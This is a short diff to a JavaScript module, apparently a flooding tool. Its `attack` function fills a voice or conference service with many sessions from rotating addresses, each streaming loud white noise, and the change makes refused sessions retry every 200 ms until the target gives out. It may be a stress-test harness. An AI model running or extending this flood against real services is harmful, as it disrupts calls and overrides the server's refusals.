@@ -17,6 +17,9 @@ const FRAMES = 50;
 /** The level of the noise as it is told, in -dBov: among the loudest. */
 const LEVEL = 8;
 
+/** The pause after which one who was refused tries again, in milliseconds. */
+const AGAIN_MS = 200;
+
 const packet = new Packet();
 
 /** White noise, frame by frame, as Opus. */
@@ -47,13 +50,19 @@ export async function attack(target, { sessions, perRoom, addresses }) {
   /** @type {Joining[]} */
   const inside = [];
   let [sent, next] = [0, 0];
-  const join = async (/** @type {number} */ number) => {
+  /** @type {(number: number) => Promise<void>} */
+  const join = async (number) => {
     const room = `noise-${Math.floor(number / perRoom)}`;
     const eve = new Joining(target, { room, from: addressOf(number % addresses) });
     const answer = await eve.answer;
     count(answers, answer);
-    if (answer === 'welcome') inside.push(eve);
-    else eve.leave();
+    if (answer === 'welcome') {
+      inside.push(eve);
+      return;
+    }
+    eve.leave();
+    await pause(AGAIN_MS);
+    if (!target.isOver()) await join(number);
   };
   const joins = Array.from({ length: sessions }, (_, number) => join(number));
   for (; !target.isOver(); next++) {
